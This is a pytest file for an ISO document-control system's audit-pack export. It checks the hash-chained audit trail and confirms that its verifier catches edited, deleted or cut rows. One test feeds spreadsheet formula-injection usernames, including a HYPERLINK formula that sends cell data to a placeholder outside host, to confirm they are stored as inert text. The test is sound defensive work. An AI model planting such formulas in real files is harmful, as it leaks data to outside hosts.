"""The audit pack holds the whole trail with its hashes and a script that re-checks it with
Python alone, the versions no longer in force, the form files and the registers."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import zipfile
from pathlib import Path

from support import agency_today

FORM = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>"
        b"endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


def _library(api) -> None:
    """QT-01 in force at revision 2 with a form file; revision 1 superseded, its paper copy recalled;
    a change request accepted."""
    api.create_procedure()
    api.fill("QT-01")
    api.publish("QT-01")
    body = {"units": [], "due_days": 7, "paper_copies": [{"holder": "nhanvien"}]}
    assert api.post("iso", "/api/v1/documents/QT-01/versions/1/distribution", body).status_code < 300
    created = api.post("nhanvien", "/api/v1/change-requests", {
        "document_code": "QT-01", "reason": "Thời hạn giải quyết đã thay đổi",
        "proposal": "Sửa bước 2 còn 05 ngày làm việc"})
    assert created.status_code == 201, created.text
    decided = api.post("iso", f"/api/v1/change-requests/{created.json()['id']}/decision",
                       {"decision": "accepted", "comment": "Đồng ý sửa đổi"})
    assert decided.status_code == 200, decided.text
    api.fill("QT-01", 2)
    uploaded = api.post("iso", "/api/v1/documents/QT-01/versions/2/attachments",
                        files={"file": ("BM-01 Phiếu đề nghị.pdf", FORM, "application/pdf")})
    assert uploaded.status_code == 201, uploaded.text
    api.publish("QT-01", 2)
    recalled = api.post("iso", "/api/v1/documents/QT-01/versions/1/paper-copies/1/recall",
                        {"outcome": "returned", "on": agency_today().isoformat()})
    assert recalled.status_code == 200, recalled.text


def _extracted(api, tmp_path: Path) -> tuple[zipfile.ZipFile, Path]:
    response = api.get("danhgia", "/api/v1/reports/audit-pack.zip")
    assert response.status_code == 200, response.text
    pack = zipfile.ZipFile(io.BytesIO(response.content))
    folder = tmp_path / "pack"
    pack.extractall(folder)
    return pack, folder


def _verify(folder: Path, *extra: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-I", str(folder / "verify_trail.py"), *extra], cwd=folder,
                          capture_output=True, text=True, timeout=60, check=False)


def test_the_pack_holds_ended_versions_form_files_and_registers(api, tmp_path):
    _library(api)
    pack, _folder = _extracted(api, tmp_path)
    names = set(pack.namelist())
    for expected in ("superseded/QT-01_lan-01.pdf", "form-files/QT-01_lan-02/BM-01 Phiếu đề nghị.pdf",
                     "reports/change-requests.pdf", "reports/change-requests.csv",
                     "reports/periodic-reviews.pdf", "reports/recalls.pdf", "reports/recalls.csv",
                     "audit-trail/audit-trail.csv", "audit-trail/chain.json", "verify_trail.py",
                     "README.txt"):
        assert expected in names, expected
    assert pack.read("form-files/QT-01_lan-02/BM-01 Phiếu đề nghị.pdf") == FORM
    assert pack.read("superseded/QT-01_lan-01.pdf").startswith(b"%PDF")
    requests = pack.read("reports/change-requests.csv").decode("utf-8-sig")
    assert "Thời hạn giải quyết đã thay đổi" in requests and "Đồng ý sửa đổi" in requests
    recalls = list(csv.reader(io.StringIO(pack.read("reports/recalls.csv").decode("utf-8-sig"))))
    assert recalls[1][1:4] == ["QT-01", "01", "01"] and recalls[1][8] == "Đã thu hồi"
    readme = pack.read("README.txt").decode()
    assert "python3 verify_trail.py" in readme and "superseded/" in readme and "form-files/" in readme


def test_the_whole_trail_is_in_the_pack_and_in_words(api, tmp_path, db):
    from sqlalchemy import func, select

    from qms.audit.models import AuditEvent

    _library(api)
    pack, _folder = _extracted(api, tmp_path)
    rows = list(csv.DictReader(io.StringIO(pack.read("audit-trail/audit-trail.csv").decode("utf-8-sig"))))
    events = db.execute(select(func.count()).select_from(AuditEvent)).scalar_one()
    assert len(rows) == events - 1  # all but the pack's own download event, written after it
    assert [int(row["id"]) for row in rows] == list(range(1, len(rows) + 1))
    assert all(len(row["hash"]) == 64 and len(row["prev_hash"]) == 64 for row in rows)
    chain = json.loads(pack.read("audit-trail/chain.json"))
    assert chain["last_id"] == len(rows) and chain["last_hash"] == rows[-1]["hash"]
    words = pack.read("reports/audit-trail.csv").decode("utf-8-sig")
    assert "Chấp nhận đề nghị sửa đổi" in words and "Có hiệu lực" in words


def test_the_script_checks_the_chain_with_python_alone_and_names_a_tampered_row(api, tmp_path, settings):
    _library(api)
    _pack, folder = _extracted(api, tmp_path)
    intact = _verify(folder)
    assert intact.returncode == 0, intact.stdout + intact.stderr
    assert intact.stdout.startswith("OK")
    keyed = _verify(folder, "--key-file", str(settings.data_dir / "audit_key"))
    assert keyed.returncode == 0 and "HMACs recomputed" in keyed.stdout, keyed.stdout

    trail = folder / "audit-trail" / "audit-trail.csv"
    text = trail.read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    target = next(row for row in rows if row["action"] == "change_request.accepted")
    tampered = text.replace("Đồng ý sửa đổi", "Không đồng ý", 1)
    assert tampered != text
    trail.write_text(tampered, encoding="utf-8-sig")
    broken = _verify(folder)
    assert broken.returncode == 1
    assert f"(event #{target['id']})" in broken.stdout and "content was changed" in broken.stdout

    gap = io.StringIO()
    writer = csv.DictWriter(gap, fieldnames=list(rows[0]), lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows[:4] + rows[5:])  # event #5 deleted
    trail.write_text(gap.getvalue(), encoding="utf-8-sig")
    missing = _verify(folder)
    assert missing.returncode == 1
    assert "row 6 of audit-trail/audit-trail.csv (event #6): expected event #5" in missing.stdout

    shorter = io.StringIO()
    writer = csv.DictWriter(shorter, fieldnames=list(rows[0]), lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows[:-1])  # the last event cut off: every remaining row still links
    trail.write_text(shorter.getvalue(), encoding="utf-8-sig")
    cut = _verify(folder)
    assert cut.returncode == 1 and "rows were cut or added at the end" in cut.stdout


def test_formula_cells_of_the_raw_trail_are_inert_and_the_script_still_checks_the_chain(api, tmp_path):
    """A failed sign-in records the username as typed; opened in a spreadsheet, the raw trail
    must not run it, and the script must still recompute the exact bytes that were hashed."""
    typed = ['=HYPERLINK("http://x.example/?"&A1,"Mở")', "@SUM(1+1)", "'=quoted", "-1+2"]
    for username in typed:
        refused = api.client.post("/api/v1/auth/token", json={"username": username, "password": "x"})
        assert refused.status_code == 401, refused.text
    api.create_procedure()
    _pack, folder = _extracted(api, tmp_path)
    text = (folder / "audit-trail" / "audit-trail.csv").read_text(encoding="utf-8-sig")
    cells = [row["actor_username"] for row in csv.DictReader(io.StringIO(text))
             if row["action"] == "auth.login_failed"]
    assert cells == ["'" + username.lower() for username in typed]
    quoted = ['"' + cell.replace('"', '""') + '"' for cell in cells]
    assert all(cell in text for cell in quoted)  # quoted, so the apostrophe stays text
    intact = _verify(folder)
    assert intact.returncode == 0, intact.stdout + intact.stderr
